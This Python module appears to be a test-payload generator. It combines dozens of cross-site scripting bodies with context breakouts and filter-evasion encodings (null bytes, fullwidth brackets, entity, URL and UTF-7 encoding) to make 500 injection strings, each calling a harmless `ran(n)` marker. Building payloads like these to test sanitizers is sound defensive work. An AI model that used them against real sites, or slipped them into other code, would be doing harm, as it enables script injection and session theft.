"""Texts that run a script where a page takes them for markup: all call `ran(number)`."""

from __future__ import annotations

from collections.abc import Callable
from html import escape
from itertools import product
from urllib.parse import quote

PAYLOADS = 500

# What runs a script, each in its own way
BODIES = (
    "<img src=x onerror=ran({0})>",
    "<svg onload=ran({0})>",
    "<svg><animate onbegin=ran({0}) attributeName=x dur=1s>",
    "<script>ran({0})</script>",
    "<script src=data:text/javascript,ran({0})></script>",
    "<svg><script>ran({0})</script></svg>",
    "<iframe srcdoc='<script>parent.ran({0})</script>'></iframe>",
    "<iframe src=javascript:parent.ran({0})></iframe>",
    "<body onload=ran({0})>",
    "<details open ontoggle=ran({0})>",
    "<input autofocus onfocus=ran({0})>",
    "<video><source onerror=ran({0})></video>",
    "<audio src onerror=ran({0})>",
    "<object data=x onerror=ran({0})></object>",
    "<embed src=javascript:ran({0})>",
    "<link rel=stylesheet href=x onerror=ran({0})>",
    "<style onload=ran({0})></style>",
    "<style>*{{background:url(x)}}</style><b style=animation:x onanimationstart=ran({0})>",
    "<a href=javascript:ran({0})>here</a>",
    "<form action=javascript:ran({0})><button>here</button></form>",
    "<meta http-equiv=refresh content=0;url=javascript:ran({0})>",
    "<base href=//evil.example/><b onmouseover=ran({0})>",
    "<marquee onstart=ran({0})>",
    "<math><mtext><img src=x onerror=ran({0})></mtext></math>",
    "<template><img src=x onerror=ran({0})></template>",
    "<table background=x><td onclick=ran({0})>",
    "${{ran({0})}}",
    "{{{{constructor.constructor('ran({0})')()}}}}",
    "<?lit$1$><!--lit-part--><img src=x onerror=ran({0})>",
    "javascript:ran({0})",
    "');ran({0});('",
)
# What a page may have written before the text, closed
BREAKOUTS = (
    "", '">', "'>", "</p>", "</b></p></section>", "</textarea>", "</title>", "</style>",
    "</script>", "-->", "]]>", "`", '" autofocus onfocus=ran(0) x="', "</noscript>", "</template>",
    "\\", "\\u003e",
)  # fmt: skip
# How a filter may be got round
DISGUISES: tuple[Callable[[str], str], ...] = (
    str,
    str.upper,
    str.swapcase,
    lambda text: text.replace("<", "<\x00", 1),
    lambda text: text.replace(" on", "\x0con").replace(" src", "/src"),
    lambda text: text.replace("script", "scr<script>ipt").replace("on", "o\tn"),
    lambda text: text.replace("<", "＜").replace(">", "＞"),  # NFKC makes markup of it
    lambda text: text.replace("<", "‹").replace(">", "›"),
    lambda text: text.replace("<", "<<").replace(">", ">>"),
    lambda text: text.rstrip(">"),
    lambda text: text.replace("(", "&lpar;").replace(")", "&#41;"),
    lambda text: text.replace("(", "`").replace(")", "`"),
    lambda text: "".join(f"\\u{ord(letter):04x}" if letter in "<>" else letter for letter in text),
    escape,
    lambda text: escape(escape(text)),
    quote,
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda text: f"<!--{text}-->{text}",
    lambda text: text.replace("javascript:", "java\nscript:").replace("=", "\u2028="),
)


def payloads() -> list[str]:
    """Give the payloads: first each body as it is, then mixtures from all over."""
    mixtures = list(product(DISGUISES, BREAKOUTS, BODIES))
    wanted = PAYLOADS - len(BODIES)
    mixed = mixtures[:: len(mixtures) // wanted][:wanted]
    plain = [(DISGUISES[0], "", body) for body in BODIES]
    return [
        breakout + disguise(body.format(number))
        for number, (disguise, breakout, body) in enumerate([*plain, *mixed], 1)
    ]
